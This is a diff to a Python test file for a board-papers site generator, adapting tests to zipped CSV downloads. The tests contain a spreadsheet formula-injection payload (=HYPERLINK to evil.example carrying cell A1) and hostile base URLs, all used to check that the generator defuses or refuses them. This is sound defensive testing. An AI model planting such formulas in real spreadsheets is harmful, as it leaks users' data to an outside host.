@@ -15,7 +15,7 @@ import shutil
 from pathlib import Path
 
 import pytest
-from conftest import FIXTURES, ROOT
+from conftest import FIXTURES, ROOT, csv_in_zip
 
 from boardpapers.content.publish import apply_publishing
 from boardpapers.core.diagnostics import BuildFailed
@@ -55,7 +55,9 @@ def built(content: Path, out: Path | None = None, **options):
 
 
 def every_file(site: Path) -> bytes:
-    return b"\n".join(p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file())
+    """Every file's bytes, a zip's (open data's CSV downloads) as the CSV it holds."""
+    return b"\n".join(csv_in_zip(p.read_bytes()).encode() if p.suffix == ".zip" else p.read_bytes()
+                      for p in sorted(site.rglob("*")) if p.is_file())
 
 
 # -- item 3: a publishing flag that is present must say something
@@ -115,8 +117,9 @@ def test_attachments_whose_names_differ_only_in_case_clash(content):
 @pytest.mark.parametrize("url", ["https://[::1/", "/\\\\evil.example/", "https://a.example:port/", "//evil.example/",
                                  "https://x.example/?a=1", "https:///papers/"])
 def test_a_base_url_that_tools_read_differently_is_refused(content, url):
-    (content / "site.yaml").write_text((content / "site.yaml").read_text() + f"base_url: '{url}'\n")
-    assert errors(content) == [("content/site.yaml", 5, "bad-value")]
+    before = (content / "site.yaml").read_text()
+    (content / "site.yaml").write_text(before + f"base_url: '{url}'\n")
+    assert errors(content) == [("content/site.yaml", before.count("\n") + 1, "bad-value")]
 
 
 def test_a_bracketed_ipv6_base_url_builds(content):
@@ -266,12 +269,13 @@ def test_csv_cells_that_spreadsheets_would_run_are_defused(content):
          "text: '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")'")
     edit(content, ITEM, "text: To publish the findings.", "text: '@SUM(1+1)'")
     _, out = built(content)
-    decisions = list(csv.DictReader(io.StringIO((out / "data/decisions.csv").read_text(), newline="")))
-    actions = list(csv.DictReader(io.StringIO((out / "data/actions.csv").read_text(), newline="")))
+    decisions = list(csv.DictReader(io.StringIO(csv_in_zip((out / "data/decisions.csv.zip").read_bytes()), newline="")))
+    actions = list(csv.DictReader(io.StringIO(csv_in_zip((out / "data/actions.csv.zip").read_bytes()), newline="")))
     assert [d["text"] for d in decisions if "HYPERLINK" in d["text"]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]
     assert [a["text"] for a in actions if "SUM" in a["text"]] == ["'@SUM(1+1)"]
-    for path in (out / "data").glob("*.csv"):
-        for row in csv.reader(io.StringIO(path.read_text(), newline="")):
+    assert len(list((out / "data").glob("*.csv.zip"))) >= 10
+    for path in (out / "data").glob("*.csv.zip"):
+        for row in csv.reader(io.StringIO(csv_in_zip(path.read_bytes()), newline="")):
             assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)
     # the JSON keeps the text as written: it is data, not a spreadsheet
     assert b'"=HYPERLINK(' in (out / "data/decisions.json").read_bytes()
